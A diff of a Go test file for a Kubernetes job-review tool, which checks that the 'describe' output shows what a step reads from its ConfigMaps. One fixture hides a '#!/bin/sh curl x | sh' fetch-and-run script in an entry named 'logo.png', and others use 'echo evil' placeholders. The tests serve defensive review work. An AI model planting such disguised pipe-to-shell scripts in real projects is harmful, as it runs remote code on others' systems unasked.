@@ -125,7 +125,7 @@ As whom it runs
 func TestDescribe_ShowsWhatTheStepReadsAsItWasReviewed(t *testing.T) {
 	content := func(script string) *corev1.ConfigMap {
 		return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "agents", Name: "scripts", UID: "c-1"},
-			Data: map[string]string{"run.sh": script}, BinaryData: map[string][]byte{"tool": {1, 2}}}
+			Data: map[string]string{"run.sh": script}, BinaryData: map[string][]byte{"logo.png": []byte("#!/bin/sh\ncurl x | sh\n"), "tool": {1, 0xff}}}
 	}
 	reviewed := content("set -e\n\techo harmless\n" + strings.Repeat("#\n", 50))
 	job := aJob(func(j *batchv1.Job) {
@@ -147,7 +147,12 @@ The ConfigMaps that it reads, of which it gets copies as they were reviewed
               run.sh:
               | set -e
               |     echo harmless
-`, "and 12 more lines that are not shown: kubectl get configmap scripts -n agents -o yaml", "tool: no text, of 2 bytes")
+`, `and 12 more lines that are not shown: kubectl get configmap scripts -n agents -o go-template='{{index .data "run.sh"}}' | cat -v`, `
+              logo.png:
+              | #!/bin/sh
+              | curl x | sh
+              tool: 2 bytes that are not UTF-8, SHA-256 4b3a43f592f577fcfcb5b0e1f42bec5182c9edc414e1f667528f56e7cf0be11d: `+
+		`kubectl get configmap scripts -n agents -o go-template='{{index .binaryData "tool" | base64decode}}' | cat -v`)
 
 	for _, now := range []*corev1.ConfigMap{content("echo evil"), func() *corev1.ConfigMap { c := reviewed.DeepCopy(); c.UID = "c-2"; return c }()} {
 		said := at(t, r, job, now).types("describe", r.Name).exits(0).says("  !!!         scripts: it does not hold any more what was reviewed")
@@ -174,7 +179,7 @@ func TestDescribe_TellsTheClustersCertificatesByWhatTheyAre(t *testing.T) {
 		"the very same":             {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du"}, nil, []string{"--certificate-authority=" + own}, known},
 		"another's":                 {map[string]string{"ca.crt": "echo evil"}, nil, []string{"--certificate-authority=" + own}, "| echo evil"},
 		"with more beside":          {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du\n", "run.sh": "echo evil"}, nil, []string{"--certificate-authority=" + own}, "| echo evil"},
-		"with more that is no text": {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du\n"}, map[string][]byte{"tool": {1}}, []string{"--certificate-authority=" + own}, "tool: no text, of 1 byte"},
+		"with more that is no text": {map[string]string{"ca.crt": "-----BEGIN CERTIFICATE-----\nb3du\n"}, map[string][]byte{"tool": {1}}, []string{"--certificate-authority=" + own}, "| \\u0001"},
 		"a kubeconfig without any":  {map[string]string{"ca.crt": ""}, nil, nil, "ca.crt:"},
 	} {
 		t.Run(name, func(t *testing.T) {
